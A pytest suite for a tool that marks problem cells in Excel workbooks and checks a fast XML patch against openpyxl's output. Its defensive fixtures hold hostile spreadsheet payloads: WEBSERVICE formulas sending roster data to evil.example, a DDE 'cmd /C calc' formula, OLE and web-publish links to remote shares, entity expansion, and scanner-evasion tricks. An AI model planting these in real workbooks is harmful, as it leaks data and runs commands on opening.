"""The marked copy patched into the workbook's own XML says what openpyxl's path says, keeps what the branch made
(formatting, drop-downs), and leaves every workbook it does not fully understand to openpyxl's path."""

from __future__ import annotations

import datetime as dt
import re
import shutil
import struct
import subprocess
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pytest
from helpers import act, build, load, marks
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from pointsbatch.problems import Problem
from pointsbatch.workbook import marked
from pointsbatch.workbook.extent import column_letters
from pointsbatch.workbook.marked import PROBLEM_SHEET, write_marked_copy
from pointsbatch.workbook.marked_xml import patched_copy, reaches_out

WHEN = dt.datetime(2027, 1, 15, 8, 30, tzinfo=dt.UTC)


def both_copies(source: Path, problems: list[Problem], folder: Path) -> tuple[Path, Path]:
    """(the copy write_marked_copy writes, the copy openpyxl's path writes) of one workbook."""
    fast, slow = folder / "fast.xlsx", folder / "slow.xlsx"
    write_marked_copy(source, problems, fast, created=WHEN)
    marked._write_through_openpyxl(source, problems, slow, source.read_bytes(), WHEN.replace(tzinfo=None))
    return fast, slow


def is_patched(source: Path, problems: list[Problem]) -> bool:
    return patched_copy(source.read_bytes(), partial(marked._listing, problems), WHEN.replace(tzinfo=None)) is not None


def assert_same_content(fast: Path, slow: Path) -> None:
    """What a reader sees: every value (calamine), every fill, comment, link, and the listing's layout (openpyxl)."""
    a, b = CalamineWorkbook.from_path(str(fast)), CalamineWorkbook.from_path(str(slow))
    assert a.sheet_names == b.sheet_names
    for name in a.sheet_names:
        assert a.get_sheet_by_name(name).to_python() == b.get_sheet_by_name(name).to_python(), name
    wa, wb = load_workbook(fast), load_workbook(slow)
    assert wa.sheetnames == wb.sheetnames and wa.active.title == wb.active.title == PROBLEM_SHEET
    assert wa.properties.created == wb.properties.created == dt.datetime(2027, 1, 15, 8, 30)
    for ws in wa.worksheets:
        other = wb[ws.title]
        seen = {}
        for row in ws.iter_rows():
            for c in row:
                seen[c.coordinate] = (c.value, c.fill.fill_type, c.fill.fgColor.rgb, c.number_format, c.font.b,
                                      c.font.color.rgb if c.font.color else None, bool(c.alignment.wrap_text),
                                      c.comment.text if c.comment else None, c.comment.author if c.comment else None,
                                      (c.hyperlink.target, c.hyperlink.location) if c.hyperlink else None)
        for coordinate, expected in seen.items():
            c = other[coordinate]
            assert expected == (c.value, c.fill.fill_type, c.fill.fgColor.rgb, c.number_format, c.font.b,
                                c.font.color.rgb if c.font.color else None, bool(c.alignment.wrap_text),
                                c.comment.text if c.comment else None, c.comment.author if c.comment else None,
                                (c.hyperlink.target, c.hyperlink.location) if c.hyperlink else None), coordinate
        assert [(str(v.sqref), v.type, v.formula1) for v in ws.data_validations.dataValidation] == [
            (str(v.sqref), v.type, v.formula1) for v in other.data_validations.dataValidation]
        assert (ws.freeze_panes, ws.print_title_rows, ws.print_area, str(ws.merged_cells)) == (
            other.freeze_panes, other.print_title_rows, other.print_area, str(other.merged_cells))
        assert bool(ws.sheet_view.tabSelected) == bool(other.sheet_view.tabSelected) == (ws.title == PROBLEM_SHEET)
        assert {k: d.width for k, d in ws.column_dimensions.items() if d.width} == {
            k: d.width for k, d in other.column_dimensions.items() if d.width}
    assert sorted(wa.defined_names) == sorted(wb.defined_names)


def rewritten(source: Path, target: Path, **parts: bytes | None) -> Path:
    """`source` with some zip entries replaced (None: removed) or added; `_` in a keyword stands for `/`."""
    given = {name.replace("__", "/"): data for name, data in parts.items()}
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename not in given:
                dst.writestr(info.filename, src.read(info))
        for name, data in given.items():
            if data is not None:
                dst.writestr(name, data)
    return target


def entry(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as zf:
        return zf.read(name)


def sheet_part(path: Path, sheet: str) -> str:
    """The zip entry of a sheet (the template's parts are numbered in sheet order)."""
    wb = load_workbook(path, read_only=True)
    return f"xl/worksheets/sheet{wb.sheetnames.index(sheet) + 1}.xml"


def with_rows(source: Path, sheet: str, rows: bytes) -> tuple[str, bytes]:
    """A sheet's zip entry, and its XML with the sheet data replaced by `rows`."""
    part = sheet_part(source, sheet)
    xml = entry(source, part)
    data = re.search(rb"<sheetData>.*</sheetData>|<sheetData/>", xml)
    assert data is not None
    return part, xml.replace(data[0], rows)


@pytest.fixture
def rejected(tmp_path) -> tuple[Path, list[Problem]]:
    path = build(tmp_path / "x.xlsx", incentive=[act("张三", "志愿服务", 5), act("王五", "志愿服务", 1)],
                 grid={2: marks(党费4月="假")})
    return path, load(path).problems


# --- the same copy, faster --------------------------------------------------------------------------------------

def test_the_patched_copy_says_what_openpyxls_copy_says(rejected, tmp_path):
    source, problems = rejected
    assert {(p.sheet, p.cell, p.code) for p in problems} >= {("激励积分", "F2", "score_above_item_max"),
                                                             ("激励积分", "C3", "name_not_in_roster")}
    assert is_patched(source, problems)
    fast, slow = both_copies(source, problems, tmp_path)
    assert_same_content(fast, slow)
    copy = load_workbook(fast)
    assert copy["激励积分"]["F2"].fill.fgColor.rgb == "00FF9999" and "超过单项满分" in copy["激励积分"]["F2"].comment.text
    assert copy["问题清单"]["D3"].hyperlink.target.startswith("#'")


def test_untouched_sheets_are_copied_as_their_compressed_bytes(rejected, tmp_path):
    source, problems = rejected
    fast = tmp_path / "fast.xlsx"
    write_marked_copy(source, problems, fast, created=WHEN)
    untouched = sheet_part(source, "负面清单")
    with zipfile.ZipFile(source) as a, zipfile.ZipFile(fast) as b:
        assert b.testzip() is None
        before, after = a.getinfo(untouched), b.getinfo(untouched)
        assert (before.CRC, before.compress_size) == (after.CRC, after.compress_size)
        assert {i.date_time for i in b.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    first = fast.read_bytes()
    write_marked_copy(source, problems, fast, created=WHEN)
    assert fast.read_bytes() == first  # the same workbook and problems give the same bytes


def test_a_problem_cell_missing_from_the_sheet_is_inserted_in_row_and_column_order(tmp_path):
    source = build(tmp_path / "x.xlsx")
    rows = (b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>date</t></is></c></row>'
            b'<row r="3"><c r="B3" t="inlineStr"><is><t>b</t></is></c><c r="D3" s="0" t="n"><v>4</v></c></row>'
            b'<row r="7"><c r="A7" t="inlineStr"><is><t>c</t></is></c></row></sheetData>')
    part, xml = with_rows(source, "负面清单", rows)
    odd = rewritten(source, tmp_path / "odd.xlsx", **{part.replace("/", "__"): xml})
    cells = ["A3", "C3", "E3", "A2", "B5", "C9", "D3", "K40"]
    problems = [Problem("error", "x", "负面清单", cell, "", f"问题{cell}") for cell in cells]
    assert is_patched(odd, problems)
    fast, slow = both_copies(odd, problems, tmp_path)
    assert_same_content(fast, slow)
    patched = entry(fast, part).decode()
    refs = re.findall(r'<(?:row|c) r="([A-Z]*)(\d+)"', patched)
    assert [int(r) for c, r in refs if not c] == [1, 2, 3, 5, 7, 9, 40]
    assert '<dimension ref="A1:K2001"/>' in patched  # (the template's A1:G2001, grown to K40)
    assert [c for c, r in refs if c and r == "3"] == ["A", "B", "C", "D", "E"]
    sheet = load_workbook(fast)["负面清单"]
    assert sheet["D3"].value == 4 and sheet["B3"].value == "b" and sheet["C9"].comment.text == "【错误】问题C9"


def test_a_sheet_without_rows_gets_its_marked_cells(tmp_path):
    source = build(tmp_path / "x.xlsx")
    part, xml = with_rows(source, "异议处理", b"<sheetData/>")
    empty = rewritten(source, tmp_path / "empty.xlsx", **{part.replace("/", "__"): xml})
    problems = [Problem("warning", "x", "异议处理", "B2", "", "空表"), Problem("error", "y", "", "", "", "整个文件")]
    assert is_patched(empty, problems)
    fast, slow = both_copies(empty, problems, tmp_path)
    assert_same_content(fast, slow)
    assert load_workbook(fast)["异议处理"]["B2"].fill.fgColor.rgb == "00FFE699"


def test_two_problems_in_one_cell_share_its_comment_and_an_error_wins_the_colour(rejected, tmp_path):
    source, _ = rejected
    problems = [Problem("warning", "a", "激励积分", "E2", "x", "先提醒"), Problem("error", "b", "激励积分", "E2", "x", "再错误"),
                Problem("warning", "c", "支部信息", "C2", "", "只提醒")]
    fast, slow = both_copies(source, problems, tmp_path)
    assert_same_content(fast, slow)
    copy = load_workbook(fast)
    assert copy["激励积分"]["E2"].comment.text == "【提醒】先提醒\n【错误】再错误"
    assert copy["激励积分"]["E2"].fill.fgColor.rgb == "00FF9999" and copy["支部信息"]["C2"].fill.fgColor.rgb == "00FFE699"


def test_shared_formulas_inline_strings_and_prefixed_xml_are_patched(tmp_path):
    """As other tools write a sheet: a namespace prefix on every element (WPS and some generators), shared
    formulas, custom document properties."""
    source = build(tmp_path / "x.xlsx")
    rows = (b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'
            b'<row r="2"><c r="F2"><v>1</v></c><c r="G2"><f t="shared" ref="G2:G4" si="0">F2*2</f><v>2</v></c></row>'
            b'<row r="3"><c r="F3"><v>2</v></c><c r="G3"><f t="shared" si="0"/><v>4</v></c></row></sheetData>')
    part, body = with_rows(source, "负面清单", rows)
    prefixed = re.sub(rb"<(/?)(?=[a-zA-Z])", rb"<\1x:", body).replace(
        b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"',
        b'xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"')
    custom = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://schemas.openxmlformats'
              b'.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/'
              b'2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" '
              b'name="KSOProductBuildVer"><vt:lpwstr>2052-12.1.0</vt:lpwstr></property></Properties>')
    types = entry(source, "[Content_Types].xml").replace(b"</Types>", (
        b'<Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'custom-properties+xml"/></Types>'))
    rels = entry(source, "_rels/.rels").replace(b"</Relationships>", (
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'custom-properties" Target="docProps/custom.xml"/></Relationships>'))
    wps = rewritten(source, tmp_path / "wps.xlsx", **{part.replace("/", "__"): prefixed, "docProps__custom.xml": custom,
                                                      "[Content_Types].xml": types, "_rels__.rels": rels})
    problems = [Problem("error", "x", "负面清单", "G3", "4", "公式"), Problem("error", "y", "负面清单", "H3", "", "空")]
    assert is_patched(wps, problems)
    fast, slow = both_copies(wps, problems, tmp_path)
    assert_same_content(fast, slow)
    assert b"<x:legacyDrawing" in entry(fast, part) and entry(fast, "docProps/custom.xml") == custom
    assert load_workbook(fast)["负面清单"]["G3"].value == "=F3*2"


def test_printer_settings_are_dropped_as_openpyxls_copy_drops_them(rejected, tmp_path):
    """Excel keeps a sheet's printer (its name may be a network path) once the sheet was printed."""
    source, problems = rejected
    parts: dict[str, bytes | None] = {}
    for n, sheet in enumerate(("激励积分", "负面清单"), start=1):
        part = sheet_part(source, sheet)
        parts[part.replace("/", "__")] = entry(source, part).replace(b"<pageSetup ", (
            b'<pageSetup xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1" '))
        parts[f"xl__worksheets___rels__{part.rsplit('/', 1)[1]}.rels"] = (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            b'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/printerSettings" '
            b'Target="../printerSettings/printerSettings%d.bin"/></Relationships>' % n)
        parts[f"xl__printerSettings__printerSettings{n}.bin"] = b"\\\\print-server\\HP" + bytes(200)
    parts["[Content_Types].xml"] = entry(source, "[Content_Types].xml").replace(b"<Override", (
        b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
        b'printerSettings"/><Override'), 1)
    printed = rewritten(source, tmp_path / "printed.xlsx", **parts)
    assert is_patched(printed, problems)
    fast, slow = both_copies(printed, problems, tmp_path)
    assert_same_content(fast, slow)
    with zipfile.ZipFile(fast) as zf:
        assert not [n for n in zf.namelist() if "printerSettings" in n]
        everything = b"".join(zf.read(n) for n in zf.namelist())
    assert b"print-server" not in everything and b"printerSettings\"" not in everything
    assert load_workbook(fast)["负面清单"].page_setup.orientation == "landscape"


# --- what the patch leaves to openpyxl ------------------------------------------------------------------------

HOSTILE = {
    "strict OOXML": lambda xml: xml.replace(b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                                            b"http://purl.oclc.org/ooxml/spreadsheetml/main"),
    "rows without numbers": lambda xml: re.sub(rb'<row r="\d+"', b"<row", xml),
    "cells out of order": lambda xml: xml.replace(b'<c r="A2"', b'<c r="Z2"', 1),
    "a DOCTYPE with entities": lambda xml: (b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
                                            b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
                                            + xml.split(b"?>", 1)[-1].replace(b"<sheetData>", b"<sheetData>&b;")),
    "broken XML": lambda xml: xml[: len(xml) // 2],
    "an existing legacy drawing": lambda xml: xml.replace(b"</worksheet>", b'<legacyDrawing r:id="rId1" xmlns:r='
                                                          b'"http://schemas.openxmlformats.org/officeDocument/2006/'
                                                          b'relationships"/></worksheet>'),
    "a hyperlink": lambda xml: xml.replace(b"<pageMargins", b'<hyperlinks><hyperlink ref="A2" location="A1"/>'
                                           b"</hyperlinks><pageMargins"),
    "a formula reaching out": lambda xml: xml.replace(b'<c r="F2" t="n"><v>5</v></c>',
                                                      b'<c r="F2"><f>WEBSERVICE("http://x")</f></c>'),
}


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_a_sheet_the_patch_does_not_take_goes_through_openpyxl_and_never_breaks(rejected, tmp_path, kind):
    source, problems = rejected
    part = sheet_part(source, "激励积分")
    odd = rewritten(source, tmp_path / "odd.xlsx", **{part.replace("/", "__"): HOSTILE[kind](entry(source, part))})
    if kind == "a formula reaching out":
        assert b"WEBSERVICE" in entry(odd, part)
    assert not is_patched(odd, problems)
    target = tmp_path / "copy.xlsx"
    try:
        write_marked_copy(odd, problems, target, created=WHEN)
    except Exception:  # openpyxl itself cannot read some of these: the branch then gets its problem list only
        assert kind in ("strict OOXML", "broken XML", "a DOCTYPE with entities", "an existing legacy drawing")
        assert not target.exists()
        return
    copy = load_workbook(target)
    assert copy.sheetnames[0] == PROBLEM_SHEET and copy["激励积分"]["F2"].fill.fgColor.rgb == "00FF9999"


def test_comments_pictures_links_and_a_returned_marked_copy_go_through_openpyxl(rejected, tmp_path):
    source, problems = rejected
    once = tmp_path / "once.xlsx"
    write_marked_copy(source, problems, once, created=WHEN)
    assert not is_patched(once, problems)  # sent back as it was: its own comments and 问题清单 are replaced
    twice = tmp_path / "twice.xlsx"
    write_marked_copy(once, problems, twice, created=WHEN)
    assert load_workbook(twice).sheetnames.count(PROBLEM_SHEET) == 1
    wb = load_workbook(source)
    wb["党员名册"]["K2"].hyperlink = "file:///C:/secret.xlsx"
    wb.save(linked := tmp_path / "linked.xlsx")
    assert not is_patched(linked, problems)
    extra = rewritten(source, tmp_path / "thumb.xlsx", **{"docProps__thumbnail.jpeg": b"\xff\xd8\xff"})
    assert not is_patched(extra, problems)
    quiet = sheet_part(source, "负面清单")  # a sheet with no problem of its own is looked at too
    xml = entry(source, quiet)
    for i, formula in enumerate([b'<f>HYPERLINK("http://x","y")</f>', b"<f t='normal'>'\\\\host\\s\\[a.xlsx]b'!A1</f>"]):
        reaching = xml.replace(b"</row>", b'<c r="Z1">' + formula + b"</c></row>", 1)
        assert not is_patched(rewritten(source, tmp_path / f"f{i}.xlsx", **{quiet.replace("/", "__"): reaching}), problems)
    damaged = tmp_path / "damaged.xlsx"  # a sheet no reader looked at, its bytes damaged: not copied as they are
    data = bytearray(source.read_bytes())
    with zipfile.ZipFile(source) as zf:
        info = zf.getinfo(sheet_part(source, "填表说明"))
    name_length, extra_length = struct.unpack("<HH", data[info.header_offset + 26:info.header_offset + 30])
    start = info.header_offset + 30 + name_length + extra_length
    data[start + info.compress_size // 2] ^= 0xFF
    damaged.write_bytes(bytes(data))
    assert not is_patched(damaged, problems)
    dup = tmp_path / "dup.xlsx"
    shutil.copy(source, dup)
    with zipfile.ZipFile(dup, "a") as zf, pytest.warns(UserWarning):
        zf.writestr("xl/styles.xml", b"<styleSheet/>")  # a second entry of the same name
    assert not is_patched(dup, problems)


# --- what the branch sees -------------------------------------------------------------------------------------

@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (libreoffice-calc-nogui) is not installed")
def test_libreoffice_reads_the_patched_copy_with_its_comments_fills_and_drop_downs(rejected, tmp_path):
    source, problems = rejected
    fast = tmp_path / "copy" / "标注.xlsx"
    fast.parent.mkdir()
    write_marked_copy(source, problems, fast, created=WHEN)
    assert is_patched(source, problems)
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to",
                    "xlsx", "--outdir", str(tmp_path / "resaved"), str(fast)], check=True, timeout=180,
                   capture_output=True)
    resaved = load_workbook(tmp_path / "resaved" / "标注.xlsx")
    original = load_workbook(source)
    assert resaved.sheetnames == [PROBLEM_SHEET, *original.sheetnames]
    for p in problems:
        if p.cell and p.sheet in original.sheetnames:
            cell = resaved[p.sheet][p.cell]
            assert p.message in cell.comment.text, p
            assert cell.fill.fgColor.rgb.endswith("FF9999" if p.is_error else "FFE699"), p
    def validations(ws):  # (LibreOffice trims a range to the rows it keeps, and writes a list's name without =)
        return {(str(v.sqref).split(":")[0], v.type, (v.formula1 or "").lstrip("=")) for v in ws.data_validations.dataValidation}

    for name in original.sheetnames:
        assert validations(original[name]) == validations(resaved[name]), name
    assert sum(len(original[n].data_validations.dataValidation) for n in original.sheetnames) > 5
    date_cell = original["激励积分"]["A2"]
    assert resaved["激励积分"]["A2"].number_format.replace("\\", "") == date_cell.number_format and resaved["激励积分"]["A2"].is_date
    listing = resaved[PROBLEM_SHEET]
    assert listing["B3"].value in ("错误", "提醒") and listing["D3"].value == problems[0].cell


@settings(max_examples=4, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.sampled_from(["党员名册", "基础积分", "激励积分", "负面清单", "下拉列表", "异议处理"]),
                          st.integers(1, 40), st.integers(1, 2100), st.booleans()), min_size=1, max_size=12))
def test_any_problem_cells_give_the_copy_openpyxls_path_gives(rejected, tmp_path_factory, cells):
    source, _ = rejected
    problems = [Problem("error" if error else "warning", "x", sheet, f"{column_letters(column)}{row}", str(row),
                        f"问题{i}") for i, (sheet, column, row, error) in enumerate(cells)]
    assert is_patched(source, problems)
    fast, slow = both_copies(source, problems, tmp_path_factory.mktemp("copies"))
    assert_same_content(fast, slow)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (libreoffice-calc-nogui) is not installed")
def test_a_workbook_saved_by_libreoffice_is_patched_alike(rejected, tmp_path):
    """Another application's spelling of the same workbook: shared strings, its own styles and properties."""
    source, _ = rejected
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to",
                    "xlsx", "--outdir", str(tmp_path / "saved"), str(source)], check=True, timeout=180,
                   capture_output=True)
    saved = tmp_path / "saved" / source.name
    assert b"sharedStrings" in entry(saved, "[Content_Types].xml")
    problems = load(saved).problems
    assert {(p.sheet, p.cell) for p in problems} >= {("激励积分", "F2"), ("激励积分", "C3")}
    assert is_patched(saved, problems)
    fast, slow = both_copies(saved, problems, tmp_path)
    assert_same_content(fast, slow)


@pytest.mark.parametrize(("formula", "reaching"), [
    ("=SUM(F2:F3)", False), ("=MYHYPERLINK(1)", False), ("=A1]&[B1", False), ('=HYPERLINK("file://a","b")', True),
    ('=hyperlink  ("x")', True), ('=WEBSERVICE("http://x")', True), ("='\\\\host\\s\\[x.xlsx]S'!A1", True),
    ("=[1]Sheet1!A1", True), ("=cmd|' /C calc'!A0", True),
    ("=" + "[" * 1_000_000, False), ("=HYPERLINK" + " " * 1_000_000, False),  # (a pattern took minutes on these)
])
def test_a_formula_reaches_out_through_another_workbook_a_share_dde_or_a_fetching_function(formula, reaching):
    assert reaches_out(formula) is reaching


def test_the_problem_sheet_takes_a_relationship_id_the_workbook_leaves_free(rejected, tmp_path):
    source, problems = rejected
    rels, book = entry(source, "xl/_rels/workbook.xml.rels"), entry(source, "xl/workbook.xml")
    count = rels.count(b"<Relationship ")
    for n in range(count, 0, -1):  # rId1..rIdN become rId3..rIdN+2: the two ids after N are taken
        rels = rels.replace(b'Id="rId%d"' % n, b'Id="rId%d"' % (n + 2))
        book = book.replace(b'r:id="rId%d"' % n, b'r:id="rId%d"' % (n + 2))
    shifted = rewritten(source, tmp_path / "shifted.xlsx", **{"xl___rels__workbook.xml.rels": rels,
                                                               "xl__workbook.xml": book})
    assert is_patched(shifted, problems)
    fast, slow = both_copies(shifted, problems, tmp_path)
    assert_same_content(fast, slow)


# --- what acts when the copy is opened, however it is spelled (each found by trying to get it past the patch) --

def _row(cells: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"</sheetData>", b'<row r="9000">' + cells + b"</row></sheetData>", 1)


def _utf16(xml: bytes) -> bytes:
    text = _row(b'<c r="A9000"><f>HYPERLINK("http://evil.example/x","x")</f></c>')(xml).decode("utf-8")
    return text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")


LIVE = {
    "a formula split by a comment": _row(b'<c r="A9000" t="str"><f>WEBSER<!-- -->VICE("http://evil.example/c")</f>'
                                         b"</c>"),
    "a formula split by a processing instruction": _row(b'<c r="A9000" t="str"><f>HYPER<?pi x?>LINK("http://e","x")'
                                                        b"</f></c>"),
    "a sheet in UTF-16": _utf16,
    "a linked object": lambda xml: xml.replace(b"</worksheet>", b'<oleObjects><oleObject progId="Excel.Sheet.12" '
                                               b'link="\\\\evil.example\\share\\x.xlsx" oleUpdate="OLEUPDATE_ALWAYS" '
                                               b'shapeId="1025"/></oleObjects></worksheet>'),
    "web publishing to a share": lambda xml: xml.replace(b"</worksheet>", b'<webPublishItems count="1"><webPublishItem'
                                                         b' id="1" divId="x" sourceType="sheet" destinationFile='
                                                         b'"\\\\evil.example\\share\\x.htm" autoRepublish="1"/>'
                                                         b"</webPublishItems></worksheet>"),
    "a conditional format that fetches": lambda xml: xml.replace(b"<pageMargins", b'<conditionalFormatting sqref="A2">'
                                                                 b'<cfRule type="expression" priority="1"><formula>'
                                                                 b'LEN(WEBSERVICE("http://evil.example/"&amp;B2))&gt;0'
                                                                 b"</formula></cfRule></conditionalFormatting>"
                                                                 b"<pageMargins", 1),
    "a character reference": _row(b'<c r="A9000" t="str"><f>&#87;EBSERVICE("http://evil.example/")</f></c>'),
}


def _live_in(copy: Path) -> list[str]:
    """Whatever in a copy could reach beyond it when opened: formulas in cells, names, conditional formats."""
    wb = load_workbook(copy)
    found = [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if c.data_type == "f" and reaches_out(str(c.value))]
    found += [n for n, d in wb.defined_names.items() if reaches_out(str(d.attr_text))]
    found += [f"{ws.title} rule" for ws in wb.worksheets for cf in ws.conditional_formatting
              for r in cf.rules for f in r.formula or [] if reaches_out(f)]
    with zipfile.ZipFile(copy) as zf:
        found += [n for n in zf.namelist() for word in (b"oleObject", b"webPublish") if word in zf.read(n)]
    return found


@pytest.mark.parametrize("kind", sorted(LIVE))
def test_a_sheet_without_problems_holding_something_live_goes_through_openpyxl_which_removes_it(rejected, tmp_path,
                                                                                                kind):
    source, problems = rejected
    part = sheet_part(source, "一票否决")  # (no problem on it: the patch would copy it as it is)
    odd = rewritten(source, tmp_path / "odd.xlsx", **{part.replace("/", "__"): LIVE[kind](entry(source, part))})
    assert not is_patched(odd, problems)
    copy = tmp_path / "copy.xlsx"
    write_marked_copy(odd, problems, copy, created=WHEN)
    assert _live_in(copy) == [] and load_workbook(copy).sheetnames[0] == PROBLEM_SHEET


def test_a_defined_name_that_fetches_is_not_copied(rejected, tmp_path):
    source, problems = rejected
    book = entry(source, "xl/workbook.xml")
    name = b'<definedName name="leak">WEBSERVICE("http://evil.example/?"&amp;\'\xe5\x85\x9a\xe5\x91\x98\xe5\x90\x8d' \
           b'\xe5\x86\x8c\'!$B$2)</definedName>'
    book = book.replace(b"</definedNames>", name + b"</definedNames>") if b"</definedNames>" in book else \
        book.replace(b"</sheets>", b"</sheets><definedNames>" + name + b"</definedNames>")
    odd = rewritten(source, tmp_path / "odd.xlsx", **{"xl__workbook.xml": book})
    assert "leak" in load_workbook(odd).defined_names and not is_patched(odd, problems)
    copy = tmp_path / "copy.xlsx"
    write_marked_copy(odd, problems, copy, created=WHEN)
    assert "leak" not in load_workbook(copy).defined_names and _live_in(copy) == []
